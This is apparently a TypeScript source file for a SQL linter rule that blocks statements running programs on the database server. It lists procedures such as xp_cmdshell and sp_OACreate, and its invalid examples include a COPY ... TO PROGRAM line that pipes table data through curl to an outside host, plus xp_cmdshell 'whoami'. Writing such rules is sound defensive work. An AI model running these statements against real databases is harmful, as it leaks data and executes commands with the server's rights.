import { callsOfProcedures, eachPlace, setOf } from './calls.ts';
import { readsFiles } from './file-access.ts';
import { everywhere, type Rule, tsql } from './rule.ts';

/** Procedures that run programs, scripts or objects of the machine, at once or by the agent. */
const procedures = setOf(
  `sp_oacreate sp_oamethod sp_oagetproperty sp_oasetproperty sp_oadestroy sp_execute_external_script sp_addextendedproc
  sp_add_job sp_add_jobstep sp_start_job sp_procoption`,
);

export default {
  id: 'program-execution',
  severity: 'error',
  effect: everywhere('deny'),
  suppressible: false,
  docs: {
    title: 'Runs a program of the server',
    problem: 'The statement starts a program, a script or native code on the machine of the database.',
    why: 'What runs there has the rights of the database server itself: it is past every right, mask and record of the database, and is how a stolen query becomes a stolen machine.',
    remedy: 'Run programs where programs are run, such as a scheduled job, and leave the data to the database.',
    invalid: [
      "COPY products TO PROGRAM 'curl -d @- https://example.com'",
      "COPY products FROM PROGRAM 'cat /tmp/products.csv'",
      "LOAD 'library'",
      tsql("EXEC xp_cmdshell 'dir'"),
      tsql("INSERT INTO products (name) EXEC master..[XP_CmdShell] 'whoami'"),
      tsql("EXEC sp_OACreate 'WScript.Shell', @shell OUTPUT"),
    ],
    valid: [
      'COPY (SELECT sku FROM products LIMIT 10) TO STDOUT',
      "SELECT sku FROM products WHERE name = 'xp_cmdshell'",
      tsql('SELECT sku AS xp_cmdshell FROM products WHERE product_id = 7'),
    ],
    source:
      'CIS Microsoft SQL Server Benchmark (“xp_cmdshell”, “Ole Automation Procedures”); CVE-2019-9193 of PostgreSQL.',
  },
  check(statement, _context, report) {
    for (const { kind, name, span } of statement.actions)
      if (kind === 'program')
        report({ span, message: `${name} runs code of the database's machine, with the server's own rights.` });
    const isMeant = (name: string): boolean => procedures.has(name) || (name.startsWith('xp_') && !readsFiles(name));
    for (const { name, span } of eachPlace(callsOfProcedures(statement, isMeant)))
      report({
        span,
        message: `This calls ${name}, which runs code outside of the database, with the server's own rights.`,
      });
  },
} satisfies Rule;
